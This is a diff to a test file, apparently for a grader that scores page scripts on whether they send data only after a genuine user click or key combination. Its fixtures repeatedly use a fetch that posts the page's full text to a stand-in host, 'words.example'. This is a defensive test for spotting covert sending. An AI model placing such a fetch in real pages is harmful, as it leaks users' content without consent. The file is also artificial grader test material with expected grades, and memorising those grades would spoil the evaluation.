@@ -124,6 +124,7 @@ describe('what is pressed', () => {
     `${made} one.addEventListener('mousedown', () => ${send});`,
     `${made} one.onpointerdown = () => ${send};`,
     `render(h('button', { onMouseDown: () => ${send} }), document.body);`,
+    `const go = () => ${send}; render(h('button', { onClick: go, onMouseEnter: () => show(tip) }), document.body);`,
   ])('asks for it as a click does: %s', async (content) => {
     expect(await graded({ content })).toMatch(/^A/);
   });
@@ -132,8 +133,39 @@ describe('what is pressed', () => {
     `document.querySelector('.send').onpointerdown = () => ${send};`,
     `${made} one.addEventListener('mouseover', () => ${send});`,
     `render(h('button', { onMouseEnter: () => ${send} }), document.body);`,
+    `const go = () => ${send}; render(h('button', { onClick: go, onMouseEnter: go }), document.body);`,
+    `const say = () => ${send}; function go() { say(); } render(h('button', { onclick: go, onscroll: go }), document.body);`,
   ])('asks for nothing where it is the page’s or only passed over: %s', async (content) => {
     expect(await graded({ content })).toBe('D');
+  });
+});
+
+describe('a key that is pressed with others', () => {
+  const send = "fetch('https://words.example/', { method: 'POST', body: document.body.innerText })";
+  const heard = (test: string): string => `addEventListener('keydown', (e) => { ${test} });`;
+  it.each([
+    `if (e.altKey && (e.key === 't' || e.key === 'T')) ${send};`,
+    `if (!e.ctrlKey || !e.shiftKey || e.key !== 'Y') return; ${send};`,
+    `if (e.altKey && e.key === '3') go(); function go() { ${send}; }`,
+  ])('asks for what it does: %s', async (test) => {
+    expect(await graded({ content: heard(test) })).toMatch(/^A/);
+  });
+  it.each([
+    `if (e.ctrlKey && e.key === 'c') ${send};`,
+    `if (e.shiftKey && e.key === 'T') ${send};`,
+    `if (e.altKey || e.key === 't') ${send};`,
+    `if (e.altKey && e.key === 'Tab') ${send};`,
+    `if (e.altKey && e.key === 't') note(); ${send};`,
+    `if (e.altKey && e.code === 'KeyQ') ${send};`,
+    `if (e.altKey && e.key === 't') go(); go(); function go() { ${send}; }`,
+  ])('asks for nothing where people type so, or more leads there: %s', async (test) => {
+    expect(await graded({ content: heard(test) })).toMatch(/[DF]/);
+  });
+  it('asks for nothing where the script itself makes the event', async () => {
+    const content = `const box = { altKey: true, key: 't' }; function on(e) { if (e.altKey && e.key === 't') ${send}; } on(box);`;
+    expect(await graded({ content })).toMatch(/[DF]/);
+    const made = `addEventListener('keydown', (e) => { if (e.altKey && e.key === 't') ${send}; }); setTimeout(() => dispatchEvent(new KeyboardEvent('keydown', { altKey: true, key: 't' })), 9e3);`;
+    expect(await graded({ content: made })).toMatch(/[DF]/);
   });
 });
 
